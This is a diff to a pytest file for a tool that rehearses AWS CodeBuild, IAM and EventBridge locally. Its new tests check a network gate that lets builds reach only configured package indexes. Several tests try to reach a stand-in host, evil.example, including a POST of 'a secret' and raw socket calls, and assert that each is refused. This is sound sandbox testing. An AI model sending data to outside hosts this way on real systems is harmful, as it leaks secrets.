@@ -1,12 +1,19 @@
 """What the rehearsal plays of IAM, EventBridge and CodeBuild, against what AWS documents."""
 
+import errno
 import http.client
+import os
 import shutil
+import socket
 import ssl
+import subprocess
+import sys
 from pathlib import Path
 
 import pytest
 
+from conftest import ROOT
+from loopback import Answer, serve
 from rehearsal import play
 from rehearsal.aws import front, iam
 from rehearsal.aws.build import Build, stream_of
@@ -14,7 +21,8 @@ from rehearsal.aws.errors import Unsupported
 from rehearsal.aws.events import transform
 from rehearsal.aws.protocols import Request
 from rehearsal.aws.stack import Stack
-from rehearsal.machine.network import Network, connection
+from rehearsal.machine import gate, indexes
+from rehearsal.machine.network import Network
 from rehearsing import edit
 
 BUCKET = "arn:aws:s3:::bucket"
@@ -339,24 +347,159 @@ def test_a_right_on_a_log_group_is_decided_by_stream() -> None:
 # ---- The network ---------------------------------------------------------------------------------
 
 
-def test_the_users_own_proxy_is_used_but_not_for_loopback(tmp_path: Path, monkeypatch) -> None:
+@pytest.fixture
+def client_through(tmp_path: Path):
+    """A function: a client's connection through a network's proxy to a host."""
+
+    def connect(network: Network, host: str) -> http.client.HTTPSConnection:
+        context = ssl.create_default_context(cafile=network.bundle)
+        port = network.server.server_port
+        through = http.client.HTTPSConnection("127.0.0.1", port, context=context)
+        through.set_tunnel(host, 443)
+        return through
+
+    return connect
+
+
+def test_the_users_own_proxy_is_used_but_not_for_loopback(
+    tmp_path: Path, monkeypatch, client_through
+) -> None:
     for name in ("users", "ours"):
         (tmp_path / name).mkdir()
-    with Network(tmp_path / "users") as users, Network(tmp_path / "ours") as ours:
+    index = "https://registry.example/simple"
+    with Network(tmp_path / "users") as users, Network(tmp_path / "ours", [index]) as ours:
         users.hosts["registry.example"] = lambda *request: (200, b"by the user's proxy")
         for name, value in users.environment().items():
             monkeypatch.setenv(name, value)
-        port = ours.server.server_port
-        context = ssl.create_default_context(cafile=users.bundle)
-        through = http.client.HTTPSConnection("127.0.0.1", port, context=context)
-        through.set_tunnel("registry.example", 443)
+        ours.bundle = users.bundle
+        through = client_through(ours, "registry.example")
         through.request("GET", "/")
         assert through.getresponse().read() == b"by the user's proxy"
-        with connection("127.0.0.1", port) as direct:
+        port = ours.server.server_port
+        with gate.connection("127.0.0.1", port) as direct:
             assert direct.getpeername()[1] == port
         users.gone = True
         with pytest.raises(ConnectionError):
-            connection("registry.example", 443)
+            gate.connection("registry.example", 443)
+
+
+REFUSED = "evil.example is refused: builds reach package indexes only; to let them: --allow-host "
+
+
+def test_other_hosts_than_indexes_are_refused_by_name(tmp_path: Path, client_through) -> None:
+    with Network(tmp_path) as network:
+        through = client_through(network, "evil.example")
+        with pytest.raises(OSError, match=f"403 {REFUSED}evil.example"):
+            through.request("GET", "/")
+        plain = http.client.HTTPConnection("127.0.0.1", network.server.server_port)
+        plain.request("POST", "http://evil.example/x", b"a secret")
+        reply = plain.getresponse()
+        assert (reply.status, reply.read()) == (403, f"{REFUSED}evil.example\n".encode())
+        assert list(network.refused) == ["evil.example"]
+
+
+def test_an_index_is_reached_without_tls_too_and_so_are_the_hosts_of_its_files(
+    tmp_path: Path,
+) -> None:
+    page = b'<a href="https://files.example/pip.whl#x">pip</a> <a href="pip.zip">pip</a>'
+    with serve(lambda request: Answer(200, page)) as (url, seen):
+        with Network(tmp_path, [f"{url}/simple/"]) as network:
+            assert network.reaches("files.example")
+            assert not network.reaches("evil.example")
+        assert [request.path for request in seen] == ["/simple/pip/"]
+        with Network(tmp_path, [], ["127.0.0.1"]) as network:
+            plain = http.client.HTTPConnection("127.0.0.1", network.server.server_port)
+            plain.request("POST", f"{url}/a?b=c", b"body")
+            assert plain.getresponse().read() == page
+        assert (seen[-1].path, seen[-1].body) == ("/a?b=c", b"body")
+
+
+CONFIGURED = {
+    "pip.conf": "[install]\nextra-index-url =\n  http://one.example/x\n  http://two.example/\n",
+    "uv.toml": 'find-links = ["https://three.example/links"]\n[pip]\nindex-url = "http://four.example"',
+    "pyproject.toml": '[[tool.uv.index]]\nname = "own"\nurl = "https://u:p@five.example:8443/simple"',
+}
+
+
+def test_the_indexes_are_those_of_pip_and_uv(tmp_path: Path, monkeypatch) -> None:
+    for name, text in CONFIGURED.items():
+        (tmp_path / name).write_text(text)
+    monkeypatch.setenv("PIP_CONFIG_FILE", str(tmp_path / "pip.conf"))
+    monkeypatch.setenv("UV_INDEX", "six=https://six.example/simple https://seven.example")
+    monkeypatch.setenv("UV_HTTP_TIMEOUT", "https://eight.example")
+    hosts = {indexes.host(url) for url in indexes.index_urls(tmp_path)}
+    found = {host for host in hosts if host.endswith(".example")}
+    numbers = ("one", "two", "three", "four", "five", "six", "seven")
+    assert found == {f"{number}.example" for number in numbers}
+    assert indexes.host(indexes.default()) in hosts
+
+
+GUARDED = """
+import socket, sys
+calls = {
+    "name": lambda: socket.create_connection(("evil.example", 80)),
+    "bytes": lambda: socket.getaddrinfo(b"evil.example", 80),
+    "address": lambda: socket.create_connection(("192.0.2.7", 80)),
+    "6": lambda: socket.create_connection(("2001:db8::7", 80)),
+    "datagram": lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.7", 53)),
+}
+for call in calls.values():
+    try:
+        call()
+    except OSError as error:
+        print(error)
+listener = socket.create_server(("127.0.0.1", 0))
+socket.create_connection(("localhost", listener.getsockname()[1]))
+socket.getaddrinfo(socket.gethostname(), 80)
+"""
+
+
+def test_the_builds_python_names_the_host_that_it_refuses(tmp_path: Path) -> None:
+    with Network(tmp_path) as network:
+        result = subprocess.run(
+            [sys.executable, "-c", GUARDED],
+            env=os.environ | network.environment(),
+            capture_output=True,
+            text=True,
+        )
+    names = ("evil.example", "evil.example", "192.0.2.7", "2001:db8::7", "192.0.2.7")
+    why = "is refused: in a rehearsal nothing leaves this machine"
+    assert result.stdout.splitlines() == [f"{name} {why}" for name in names]
+    assert result.returncode == 0, result.stderr
+
+
+BEHIND = """
+import socket, sys
+sys.path.insert(0, sys.argv[1])
+from rehearsal.machine import gate
+host, port = sys.argv[2], int(sys.argv[3])
+print(gate.close_network())
+try:
+    socket.create_connection((host, port), 5)
+except OSError as error:
+    print(error.errno)
+gate.reach(host, port).sendall(b"by the gate")
+try:
+    gate.reach(host, 1)
+except OSError as error:
+    print(error)
+"""
+
+
+@pytest.mark.skipif(
+    not gate.works_in_a_child(), reason="this machine lets nobody leave its network"
+)
+def test_behind_the_gate_nothing_leaves_the_machine_but_what_it_opens() -> None:
+    with socket.create_server(("127.0.0.1", 0)) as listener:  # of another loopback than its own
+        place = [str(ROOT), *map(str, listener.getsockname())]
+        shown = subprocess.run(
+            [sys.executable, "-c", BEHIND, *place], capture_output=True, text=True, check=True
+        ).stdout
+        with listener.accept()[0] as arrived:
+            assert arrived.recv(100) == b"by the gate"
+            assert arrived.recv(1) == b""  # the gate has ended, too
+    refused = os.strerror(errno.ECONNREFUSED)
+    assert shown == f"True\n{errno.ECONNREFUSED}\n[Errno {errno.ECONNREFUSED}] {refused}\n"
 
 
 def test_a_body_in_chunks_is_read_whole(tmp_path: Path) -> None:
